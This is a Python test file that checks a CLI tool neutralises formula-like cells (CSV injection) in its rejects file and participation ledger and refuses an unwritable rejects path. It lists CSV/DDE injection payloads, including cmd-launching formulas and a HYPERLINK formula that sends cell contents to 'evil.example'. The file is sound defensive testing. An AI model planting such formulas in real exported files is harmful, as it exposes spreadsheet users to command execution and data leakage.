"""Issue 16, what we write back: formula-like cells neutralised in the rejects file and the
participation ledger (CSV injection), and a ``--rejects`` path that cannot be written refused
before anything is committed."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from lernnetz.api.cli.common import app
from lernnetz.graph.participation import import_participation
from lernnetz.graph.pipeline import append_ledger, ledger_path, read_ledger
from lernnetz.graph.settings import Settings
from lernnetz.graph.store.nx_store import NetworkXStore
from lernnetz.loaders.errors import InputError
from lernnetz.loaders.ledger import escape_cell, unescape_cell
from lernnetz.loaders.participation import Reject, write_rejects
from lernnetz.loaders.records import ParticipationRecord

#: What a tester sends: each would run in Excel/LibreOffice if written back as it is.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    "+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Values that only look special: they must come back exactly as they were.
TRICKY = ["'=already quoted", "''", "'", "plain", "", "=", "a=b"]

CANONICAL = "municipality,land,topics,kind,date,source\n"


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _formula_like(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", PAYLOADS + TRICKY)
def test_ledger_cell_escape_round_trips(value: str) -> None:
    escaped = escape_cell(value)
    assert not _formula_like(escaped)
    assert unescape_cell(escaped) == value


def test_ledger_neutralises_formulas_and_reads_them_back_unchanged(settings: Settings) -> None:
    records = [
        ParticipationRecord("08421000", "survey", "2024-01-01", source, topic="mobility", weight=0.5)
        for source in PAYLOADS + TRICKY
    ]
    assert append_ledger(settings, records) == len(records)
    cells = [c for row in _cells(ledger_path(settings))[1:] for c in row]
    assert cells and not any(_formula_like(c) for c in cells)
    assert read_ledger(settings) == records
    assert append_ledger(settings, records) == 0  # importing twice still changes nothing


def test_rejects_file_is_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    write_rejects(
        path, [Reject(i + 2, "municipality", v, "unknown municipality") for i, v in enumerate(PAYLOADS)]
    )
    rows = _cells(path)
    assert rows[0] == ["row", "column", "value", "reason"]
    assert [r[2] for r in rows[1:]] == ["'" + v for v in PAYLOADS]
    assert not any(_formula_like(c) for r in rows for c in r)


# ---------------------------------------------------------------------------- --rejects


@pytest.fixture
def store(private_store: NetworkXStore) -> NetworkXStore:
    """A private store for one test (see ``private_store`` in conftest)."""
    return private_store


def test_rejects_into_a_folder_is_refused_before_anything_is_committed(
    store: NetworkXStore, settings: Settings, tmp_path: Path
) -> None:
    listing = tmp_path / "list.csv"
    listing.write_text(
        CANONICAL
        + "Ulm,BW,mobility,survey,2024-01-01,x\n"
        + "=cmd|' /C calc'!A0,,mobility,survey,2024-01-01,x\n",
        encoding="utf-8",
    )
    folder = tmp_path / "a-folder"
    folder.mkdir()
    snapshot_before = settings.snapshot_path.read_bytes()
    edges_before = store.info()["edges"]
    with pytest.raises(InputError, match="rejects file is a folder"):
        import_participation(store, settings, listing, rejects_path=folder)
    r = CliRunner().invoke(app, ["import", "participation", str(listing), "--rejects", str(folder)])
    assert r.exit_code == 2, r.output
    assert "rejects file is a folder" in " ".join(r.output.split())
    assert not ledger_path(settings).exists()
    assert settings.snapshot_path.read_bytes() == snapshot_before
    assert store.info()["edges"] == edges_before
    assert list(folder.iterdir()) == []
    # a writable path: the import goes through and its rejects are neutralised
    good = tmp_path / "out" / "rejects.csv"
    r = CliRunner().invoke(app, ["import", "participation", str(listing), "--rejects", str(good)])
    assert r.exit_code == 0, r.output
    assert len(read_ledger(settings)) == 1
    assert [row[2] for row in _cells(good)[1:]] == ["'=cmd|' /C calc'!A0"]
